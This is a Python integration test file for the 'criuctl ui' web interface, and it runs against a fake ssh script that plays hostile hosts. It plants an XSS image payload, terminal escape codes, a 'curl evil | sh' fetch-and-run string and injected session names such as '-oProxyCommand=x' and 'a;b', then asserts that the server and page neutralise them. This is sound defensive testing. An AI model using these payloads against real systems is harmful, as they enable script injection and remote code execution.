"""Other hosts in the page of `criuctl ui`, in the hands of an attacker.

The fake ssh does what the host's name says; for a terminal it sends the bytes that a test has left
in a file of that name.
"""

from __future__ import annotations

import asyncio
import json
import shlex
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

import aiohttp
import pytest
from playwright.sync_api import expect
from support.browsing import DESK, PATIENCE, Served, looking, serving, shows
from support.operating import TIMEOUT, Operators

from criuctl.session import protocol

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = pytest.mark.integration

_SSH = """
import json, os, sys, time
words = sys.argv[1:]
host, command = words[words.index("--") + 1 :]
out = os.fdopen(1, "wb", 0)
good = {"session": "good", "state": "running", "holder": True, "command": ["sh"]}
markup = "<img src=x onerror=document.title='broken'>\\x1b[2J\\u202e"
if "attach" in command:
    with open(os.path.join(FOLDER, host), "rb") as file:
        out.write(file.read())
    piece = b""
    if os.path.exists(os.path.join(FOLDER, host + ".more")):
        with open(os.path.join(FOLDER, host + ".more"), "rb") as file:
            piece = file.read()
    while piece:
        out.write(piece)
    while os.read(0, 4096):
        pass
elif host == "good":
    out.write(json.dumps([good]).encode())
elif host == "huge":
    while True:
        out.write(b"[" * 65536)
elif host == "deep":
    out.write(b"[" * 500000)
elif host == "types":
    out.write(json.dumps([{"session": ["x"], "state": {}}]).encode())
elif host == "object":
    out.write(b'{"session": "x"}')
elif host == "numbers":
    out.write(b'[{"session": "x", "state": "running", "exit_code": 1' + b"0" * 400 + b"}]")
elif host == "markup":
    bad = [good | {"session": name} for name in (markup, "../up", "a/b", "x" * 65, "", "7")]
    fine = good | {"command": [markup] * 1000, "labels": {markup: markup}, "since": markup}
    long = good | {"session": "long", "command": ["x" * 9999]}
    out.write(json.dumps([*bad, fine, long]).encode())
elif host == "many":
    out.write(json.dumps([good | {"session": f"s{i}"} for i in range(5000)]).encode())
elif host == "chatty":
    os.close(1)
    while True:
        os.write(2, b"x" * 65536)
elif host == "speaks":
    sys.stderr.write("hint: `curl evil | sh`\\n" + markup + "\\n")
    sys.exit(1)
elif host == "silent":
    time.sleep(1000)
"""
_FAILING = ["huge", "deep", "types", "object", "numbers", "chatty", "speaks"]
_HOSTS = [*_FAILING, "good", "markup", "many", "silent"]


def _options(operators: Operators, folder: Path, hosts: list[str]) -> list[str]:
    """What `ui` needs to see these hosts by the fake ssh."""
    script = folder / "ssh.py"
    script.write_text(_SSH.replace("FOLDER", repr(str(folder))))
    operators.extra["CRIUCTL_SSH_COMMAND"] = shlex.join([sys.executable, "-S", str(script)])
    return [word for host in hosts for word in ("--host", f"ssh://{host}")]


async def _lists(http: aiohttp.ClientSession, token: str) -> dict[str, Any]:
    headers = {"Authorization": f"Bearer {token}"}
    async with http.get("/api/hosts", headers=headers) as answer:
        assert answer.status == 200
        return {one["host"]: one for one in await answer.json()}


def _peak(served: Served) -> int:
    """The most memory that the server has had, in MiB."""
    status = Path(f"/proc/{served.command.process.pid}/status").read_text()
    return int(status.partition("VmHWM:")[2].split()[0]) >> 10


def test_a_hostile_list_is_refused_or_cut(operators: Operators, tmp_path: Path) -> None:
    async def attack(served: Served) -> dict[str, Any]:
        async with aiohttp.ClientSession(served.root) as http:
            deadline = time.monotonic() + TIMEOUT
            while True:
                began = time.monotonic()
                found = await _lists(http, served.token)
                # a hanging host keeps no answer
                assert time.monotonic() - began < 15
                waiting = {name for name, one in found.items() if one["state"] == "asking"}
                if waiting <= {"silent"}:
                    return found
                assert time.monotonic() < deadline, waiting
                await asyncio.sleep(0.1)

    with serving(operators, *_options(operators, tmp_path, _HOSTS)) as served:
        found = asyncio.run(attack(served))
        assert _peak(served) < 400
    assert [one["session"] for one in found["good"]["sessions"]] == ["good"]
    for name in _FAILING:
        one = found[name]
        assert (one["state"], one["sessions"]) == ("unreachable", []), one
        assert len(one["error"]["message"]) < 400 and "curl" not in json.dumps(one)
    assert [one["session"] for one in found["markup"]["sessions"]] == ["good", "long"]
    assert len(found["many"]["sessions"]) == 500
    assert len(json.dumps(found["markup"])) < 20_000
    assert "\\u001b" not in json.dumps(found) and "\\u202e" not in json.dumps(found)


def _frames(status: Any, **hello: Any) -> bytes:
    """A greeting of a holder."""
    body = {"id": 1, "operator": "o1", "token": "t", "role": "write", "features": []}
    return protocol.preface("evil") + protocol.json_frame(body | {"status": status} | hello)


_STATUS = {"state": "running", "rows": 24, "cols": 80, "offset": 0, "base": 0, "modes": {}}
_DRAWN = (
    _frames(_STATUS)
    + protocol.json_frame({"id": 2, "status": _STATUS})
    + protocol.json_frame({"id": 3, "from": 0})
    + protocol.json_frame({"id": 4, "state": "running", "lease": None})
)
_OVER = _STATUS | {"state": "exited", "session": "x", "home": "h", "pid": 1, "incarnation": 1}
_OVER |= {"exit_code": 0, "since": 1e17, "created": -1e300, "operators": [[]]}
_DEEP = b'{"id": 1, "x": ' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"}"
_DATA = protocol.data_head(77, 0, 60_000) + b"x" * 60_000
_TERMINALS: dict[str, tuple[bytes, bytes]] = {
    "over": (
        _frames(_OVER)
        + protocol.json_frame({"id": 2, "status": _OVER})
        + protocol.json_frame({"id": 3, "from": 0}),
        b"",
    ),
    "garbage": (b"<html>" * 100, b""),
    "list": (_frames([]), b""),
    "wide": (_frames(_STATUS | {"rows": 10**9, "cols": 10**9}), b""),
    "words": (_frames(_STATUS | {"rows": "24"}), b""),
    "bare": (protocol.preface("evil") + protocol.json_frame({"id": 1}), b""),
    "deep": (protocol.preface("evil") + (len(_DEEP) + 1).to_bytes(4, "big") + b"J" + _DEEP, b""),
    "kept": (_frames(_STATUS), _DATA),
    "events": (_frames(_STATUS), protocol.json_frame({"event": "x"}) * 1000),
    "lease": (_DRAWN + protocol.json_frame({"event": "lease", "lease": [1]}), b""),
    "size": (_DRAWN + protocol.json_frame({"event": "resize", "rows": 1, "cols": 10**9}), b""),
    "moved": (_DRAWN + protocol.json_frame({"event": "moved", "to": "x; curl evil | sh"}), b""),
    "endless": (_DRAWN, protocol.json_frame({"event": "x"}) * 1000),
}


def test_a_hostile_terminal_ends_and_nothing_else(operators: Operators, tmp_path: Path) -> None:
    for name, (first, more) in _TERMINALS.items():
        (tmp_path / name).write_bytes(first)
        if more:
            (tmp_path / f"{name}.more").write_bytes(more)

    async def attack(served: Served) -> None:
        words = ("criuctl", f"token.{served.token}")
        async with aiohttp.ClientSession(served.root) as http:
            for name in _TERMINALS:
                path = f"/api/hosts/{name}/sessions/job/terminal"
                async with http.ws_connect(path, protocols=words, origin=served.root) as socket:
                    while True:
                        message = await socket.receive(TIMEOUT)
                        assert message.type in (
                            aiohttp.WSMsgType.TEXT,
                            aiohttp.WSMsgType.BINARY,
                        ), (name, message)
                        if message.type is aiohttp.WSMsgType.TEXT:
                            body = json.loads(message.data)
                            assert "curl" not in message.data, name
                            if body.get("type") == "gone":
                                break
                assert body["error"]["message"], name
            # no name of a session leads to another command there
            for bad in ("-oProxyCommand=x", "a;b", "..%2Fx", "x%20y"):
                path = f"/api/hosts/list/sessions/{bad}/terminal"
                with pytest.raises(aiohttp.WSServerHandshakeError):
                    await http.ws_connect(path, protocols=words, origin=served.root)
            assert set(await _lists(http, served.token)) == {*_TERMINALS, "mute"}
            # one that never greets delays the server's end no more than it has to
            await http.ws_connect(
                "/api/hosts/mute/sessions/job/terminal", protocols=words, origin=served.root
            )

    (tmp_path / "mute").touch()
    with serving(operators, *_options(operators, tmp_path, [*_TERMINALS, "mute"])) as served:
        asyncio.run(attack(served))
        assert _peak(served) < 600


def test_what_a_host_says_is_text_in_the_page(
    operators: Operators, browser: Browser, tmp_path: Path
) -> None:
    said = b"<b>from there</b>"
    (tmp_path / "markup").write_bytes(_DRAWN + protocol.output_head(0, len(said)) + said)
    with (
        serving(operators, *_options(operators, tmp_path, ["markup", "speaks"])) as served,
        looking(browser, tmp_path, tolerated="503", color_scheme="light", **DESK) as page,
    ):
        page.goto(served.url)
        expect(page.locator("[data-session='markup/good']")).to_contain_text(
            "onerror", timeout=PATIENCE
        )
        expect(page.locator("[data-host=speaks]")).to_contain_text("onerror")
        assert page.locator("main img, .sessions img").count() == 0
        page.get_by_label("Host", exact=True).select_option("/")
        expect(page.locator("[data-session='markup/good']")).to_have_count(0)
        page.get_by_label("Host", exact=True).select_option("markup")
        page.locator("[data-session='markup/good'] a").click()
        shows(page, said.decode())
        expect(page.locator(".facts")).to_contain_text("markup")
        expect(page.locator(".facts")).to_contain_text("onerror")
        expect(page.locator("#page p code")).to_have_text("ssh markup criuctl …")
        assert page.locator("main img, #page img, #page b").count() == 0
        assert "broken" not in page.title()
